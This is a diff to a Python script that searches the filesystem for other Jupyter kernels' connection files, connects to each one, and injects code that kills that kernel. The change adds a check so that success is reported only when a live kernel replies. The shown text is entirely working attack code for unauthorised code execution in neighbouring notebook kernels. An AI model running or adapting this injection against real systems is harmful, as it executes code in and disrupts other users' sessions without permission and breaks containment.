@@ -176,13 +176,16 @@ from jupyter_client import BlockingKernelClient
 mine = os.path.abspath(ipykernel.get_connection_file())
 for top in ["/tmp", os.path.expanduser("~"), "/root/.local/share/jupyter/runtime"]:
     for path in walk(top, depth=5):
-        if path.endswith(".json") and os.path.abspath(path) != mine:
+        if path.endswith(".json") and os.path.abspath(path) != mine \
+                and "/.venv/" not in path and "site-packages" not in path:
             try:
                 kc = BlockingKernelClient(connection_file=path)
                 kc.load_connection_file()
                 kc.start_channels()
-                kc.execute("import os; os._exit(1)")
-                print("INJECTED:", path)
+                msg_id = kc.execute("import os; os._exit(1)")
+                reply = kc.get_shell_msg(timeout=1)   # only a live kernel answers
+                if reply["parent_header"].get("msg_id") == msg_id:
+                    print("INJECTED:", path)
             except Exception as exc:
                 print("NOINJECT:", path, type(exc).__name__)
 import socket
